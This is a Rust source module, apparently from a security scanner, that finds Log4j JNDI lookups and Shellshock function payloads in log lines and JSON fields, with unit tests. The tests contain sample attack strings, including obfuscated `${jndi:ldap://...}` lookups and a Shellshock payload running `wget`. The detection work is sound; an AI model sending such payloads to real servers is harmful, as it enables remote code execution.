//! What an attacker writes into a field of any kind so that whatever reads it runs it: `${jndi:…}`, `() { :; }; …`.

/// The insides of look-ups of Log4j: what stands between the braces, and names a kind of look-up with a colon.
pub(super) fn look_ups(text: &str) -> impl Iterator<Item = &str> {
    const MARK: &str = "${";
    let (mut from, mut quoted) = (0, Quoted::default());
    std::iter::from_fn(move || {
        loop {
            let start = from + text[from..].find(MARK)? + MARK.len();
            let rest = quoted.from(text, start);
            // Where none closes it, it may have been cut.
            let inside = &rest[..end_of_braces(rest)];
            from = start + inside.len();
            if inside.contains(':') {
                return Some(inside);
            }
        }
    })
}

/// What the shell runs behind a function that comes in a variable. The functions of programs have names before the brackets.
pub(super) fn behind_functions(text: &str) -> impl Iterator<Item = &str> {
    const MARK: &str = "() {";
    let (mut from, mut quoted) = (0, Quoted::default());
    std::iter::from_fn(move || {
        loop {
            let at = from + text[from..].find(MARK)?;
            let is_named = text[..at].ends_with(|c: char| c.is_alphanumeric() || c == '_');
            if is_named {
                from = at + MARK.len();
                continue;
            }
            let behind = quoted.from(text, at);
            from = at + behind.len();
            return Some(behind);
        }
    })
}

/// Knows which parts of a text stand in quotation marks: in a log line the page stands behind such a part that the client says it came
/// from, in JSON the next field.
#[derive(Default)]
struct Quoted {
    /// How far marks were counted.
    to: usize,
    /// Whether one is open there.
    is_open: bool,
    /// Where the part ends that was found last.
    end: usize,
}

impl Quoted {
    /// What stands here, up to the mark that ends what was quoted before it, if anything was. A mark with a sign before it, or with a word
    /// behind it, is the payload's own.
    fn from<'t>(&mut self, text: &'t str, at: usize) -> &'t str {
        if at < self.end {
            return &text[at..self.end];
        }
        self.is_open ^= marks(&text[self.to..at]).count() % 2 == 1;
        self.to = at;
        if !self.is_open {
            return &text[at..];
        }
        let end = marks(&text[at..]).map(|length| at + length).find(|end| {
            let after = text[end + 1..].chars().next();
            after.is_none_or(|c| c.is_whitespace() || matches!(c, ',' | ':' | ']' | '}'))
        });
        self.end = end.unwrap_or(text.len());
        &text[at..self.end]
    }
}

/// Where quotation marks stand that have no sign before them.
fn marks(text: &str) -> impl Iterator<Item = usize> {
    let marks = text.match_indices('"').map(|(at, _)| at);
    marks.filter(|at| !text[..*at].ends_with('\\'))
}

/// Where the brace closes that was opened before a text.
fn end_of_braces(text: &str) -> usize {
    let mut open = 1_u32;
    let braces = text.bytes().enumerate().filter(|(_, byte)| matches!(byte, b'{' | b'}'));
    for (at, brace) in braces {
        open = if brace == b'{' { open + 1 } else { open - 1 };
        if open == 0 {
            return at;
        }
    }
    text.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_look_up_ends_with_its_brace_or_with_what_was_quoted() {
        for (text, expected) in [
            (
                "x=${jndi:ldap://a/b}&y=http://c ${d:e}",
                &["jndi:ldap://a/b", "d:e"][..],
            ),
            (
                "${${lower:j}ndi:${lower:l}dap://a}",
                &["${lower:j}ndi:${lower:l}dap://a"],
            ),
            (
                r#""GET /${jndi:ldap://a HTTP/1.1" 200 "http://c""#,
                &["jndi:ldap://a HTTP/1.1"],
            ),
            (r#"{"a":"${jndi:ldap://a","b":"http://c"}"#, &["jndi:ldap://a"]),
            (r#""a" ${jndi:ldap://"b" } "c""#, &[r#"jndi:ldap://"b" "#]),
            (r#"{"a":"${jndi:ldap://\"a}b"}"#, &[r#"jndi:ldap://\"a"#]),
            ("${name}:1 http://c", &[]),
            ("${", &[]),
            ("$ {a:b} {a:b}", &[]),
        ] {
            assert_eq!(look_ups(text).collect::<Vec<_>>(), expected, "{text}");
        }
    }

    #[test]
    fn each_part_of_a_text_is_looked_at_once() {
        let text = format!("\"{}", "${a}() {".repeat(100_000));
        assert_eq!(look_ups(&text).chain(behind_functions(&text)).count(), 1);
    }

    #[test]
    fn what_a_shell_runs_ends_with_what_was_quoted() {
        for (text, expected) in [
            (
                r#"1 "() { :; }; sh -c "wget a/b"" "http://c""#,
                &[r#"() { :; }; sh -c "wget a/b""#][..],
            ),
            (
                r#"{"a":"() { :; }; \"x\" y","b":"http://c"}"#,
                &[r#"() { :; }; \"x\" y"#],
            ),
            ("() { a", &["() { a"]),
            ("function() { a", &[]),
            ("x_() { a", &[]),
        ] {
            assert_eq!(behind_functions(text).collect::<Vec<_>>(), expected, "{text}");
        }
    }
}
